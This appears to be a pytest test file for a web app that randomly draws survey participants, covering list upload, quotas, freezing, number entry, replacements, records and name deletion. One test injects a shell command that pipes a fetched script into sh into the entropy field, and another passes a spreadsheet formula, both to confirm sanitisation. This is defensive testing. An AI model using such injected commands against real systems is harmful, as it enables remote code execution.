"""A draw by pages: a list, its quotas, the freeze, the numbers, an absence, the record, and the names gone."""

from datetime import timedelta
from io import BytesIO

import pytest
from docx import Document

from survey.db import db
from survey.draws import operations, queries
from survey.draws.models import Draw
from survey.draws.rules import list_digest
from survey.officers.models import Officer
from survey.rounds.models import Inspection
from tests.draws.lists import HEADER, NUMBERS, SOURCE, make_drawn, make_frozen, on, today
from tests.make import make_inspection, make_round
from tests.rounds.files import xlsx
from tests.web.client import Clerk
from tests.web.office.conftest import ON_SQLITE

pytestmark = ON_SQLITE

ROWS = [
    HEADER,
    *([n, f"服务对象{n}", "服务对象", "龙泉镇", "户籍迁移", f"{n:011}"] for n in range(1, 9)),
    *([n, f"党员{n}", "党员代表", "西岭镇", "", ""] for n in range(9, 12)),
]


@pytest.fixture
def inspection(operator: Officer) -> Inspection:
    return make_inspection(make_round(operator.office))


def file(rows: list[list[object]]) -> tuple[BytesIO, str]:
    return BytesIO(xlsx(rows)), "服务对象.xlsx"


def test_from_a_list_to_who_is_invited(clerk: Clerk, inspection: Inspection) -> None:
    page = clerk.follow(clerk.get(f"/inspections/{inspection.id}"), "随机抽取")
    page = clerk.follow(page, "上传服务对象名单")
    page = clerk.submit(page, "读取并写入", file=file(ROWS))
    assert "手机号" in page.text  # was not taken over: the page says so
    page = clerk.follow(clerk.follow(page, "无误，继续"), "确定名额")
    page = clerk.submit(page, "保存", group1="9", group2="1")
    assert "8" in page.text
    page = clerk.submit(page, "保存", group1="3", group2="1")
    page = clerk.submit(clerk.follow(page, "锁定名单"), "锁定", source=SOURCE, source_on=str(today()))
    draw = queries.draws_of(inspection)[0]
    assert str(draw.list_digest) in page.text
    page = clerk.follow(page, "录入号码并抽取")
    page = clerk.submit(page, "抽取", entropy=NUMBERS, again=NUMBERS.replace("07", "08"))
    page = clerk.submit(page, "抽取", entropy=NUMBERS, again="3、9、12、18、22、31、7")
    guests = [each.guests for each in queries.lots(draw)]
    assert [len(group) for group in guests] == [3, 1]
    assert all(person.name in page.text for group in guests for person in group)


def test_a_list_with_defects_says_each_and_keeps_nothing(clerk: Clerk, inspection: Inspection) -> None:
    page = clerk.get(f"/inspections/{inspection.id}/draws/new")
    page = clerk.submit(page, "读取并写入", file=file([HEADER, [1, "", "服务对象"], [2, "=A1", "服务对象"]]))
    assert "第2行" in page.text
    assert "第3行" in page.text
    assert queries.draws_of(inspection) == []


def test_numbers_wait_for_their_day(clerk: Clerk, operator: Officer, monkeypatch: pytest.MonkeyPatch) -> None:
    draw = make_frozen(operator, on_day=today() + timedelta(days=2))
    assert "录入号码并抽取" not in clerk.get(f"/draws/{draw.id}").links
    page = clerk.get(f"/draws/{draw.id}/numbers")
    page = clerk.submit(page, "抽取", entropy=NUMBERS, again=NUMBERS)
    assert page.form("抽取").entries["entropy"] == [NUMBERS]
    on(today() + timedelta(days=2), monkeypatch)
    clerk.submit(
        clerk.follow(clerk.get(f"/draws/{draw.id}"), "录入号码并抽取"), "抽取", entropy=NUMBERS, again=NUMBERS
    )
    assert draw.drawn_at


def test_whoever_cannot_come_is_replaced_and_the_record_says_so(clerk: Clerk, operator: Officer) -> None:
    draw = make_drawn(operator)
    first = queries.lots(draw)[0]
    page = clerk.follow(clerk.get(f"/draws/{draw.id}"), "不能到会")
    assert page.form("登记并递补").entries["number"] == [str(first.order[0])]
    page = clerk.submit(page, "登记并递补", reason="外出")
    assert f"{first.order[4]}号" in page.text
    record = clerk.follow(page, "抽取记录")
    assert "外出" in record.text
    assert SOURCE in record.text
    assert str(draw.list_digest) in record.text
    answer = clerk.send("GET", record.links["下载文件（.docx）"])
    written = Document(BytesIO(answer.data))
    said = "\n".join(each.text for each in written.paragraphs)
    assert str(draw.list_digest) in said
    invited, _, replaced = written.tables
    assert [row.cells[1].text for row in invited.rows[1:]] == [str(number) for number in first.order[:4]]
    assert [cell.text for cell in replaced.rows[1].cells][:3] == [
        f"{first.order[0]}号",
        f"{first.order[4]}号",
        "外出",
    ]


def test_a_record_names_every_other_list_that_was_frozen_for_the_unit(
    clerk: Clerk, operator: Officer
) -> None:
    draw, beside = make_drawn(operator), make_frozen(operator)
    beside.inspection = draw.inspection
    db.session.commit()
    page = clerk.get(f"/draws/{draw.id}/record")
    assert f"第{beside.id}号抽取" in page.text
    assert str(beside.list_digest) in page.text
    assert "没有抽取" in page.text


def test_names_go_and_the_draw_stays(clerk: Clerk, operator: Officer) -> None:
    draw = make_drawn(operator)
    name = queries.lots(draw)[0].guests[0].name
    assert name in clerk.get(f"/draws/{draw.id}").text
    page = clerk.submit(clerk.get(f"/draws/{draw.id}"), "确定：删除姓名")
    assert name not in page.text
    assert name not in clerk.follow(page, "抽取记录").text


def test_the_list_file_and_the_script_are_downloaded(clerk: Clerk, operator: Officer) -> None:
    draw = make_frozen(operator)
    page = clerk.get(f"/draws/{draw.id}")
    listed = clerk.send("GET", page.links["下载名单文件（不含姓名）"])
    assert list_digest(listed.text) == draw.list_digest
    assert "第1人" not in listed.text
    assert "def main" in clerk.send("GET", page.links["下载抽取脚本"]).text


def test_a_draft_is_taken_back(clerk: Clerk, inspection: Inspection) -> None:
    page = clerk.get(f"/inspections/{inspection.id}/draws/new")
    page = clerk.follow(clerk.submit(page, "读取并写入", file=file(ROWS)), "无误，继续")
    page = clerk.follow(page, "更换名单")
    page = clerk.follow(clerk.submit(page, "读取并写入", file=file(ROWS[:5])), "无误，继续")
    clerk.submit(page, "确定：撤销")
    assert Draw.query.count() == 0


def test_the_planner_says_how_many_and_that_thirty_cannot(clerk: Clerk, inspection: Inspection) -> None:
    page = clerk.get(f"/inspections/{inspection.id}/draws/plan", population=1200)
    page = clerk.submit(page, "测算", rate="97", turnout="80")
    assert "邀请84人" in page.text
    assert "即使30人的评价完全相同" in page.text
    page = clerk.submit(page, "测算", rate="x")
    assert "邀请" in page.text


def test_every_page_of_a_draw_stands_in_every_state(clerk: Clerk, operator: Officer) -> None:
    frozen = make_frozen(operator)
    for draw in (frozen, make_drawn(operator)):
        for way in ("", "/people", "/quotas", "/freeze", "/numbers", "/absent", "/list"):
            clerk.get(f"/draws/{draw.id}{way}")
    clerk.get(f"/draws/{frozen.id}/record", status=409)


def test_a_command_to_repeat_it_holds_figures_and_nothing_else_that_was_typed(
    clerk: Clerk, operator: Officer
) -> None:
    draw = make_frozen(operator)
    operations.enter_entropy(operator, draw, '03 09 12 18 22 31 07"; curl x | sh; "')
    page = clerk.get(f"/draws/{draw.id}/record")
    assert f'draw-{draw.id}-list.txt "3.9.12.18.22.31.7"' in page.text
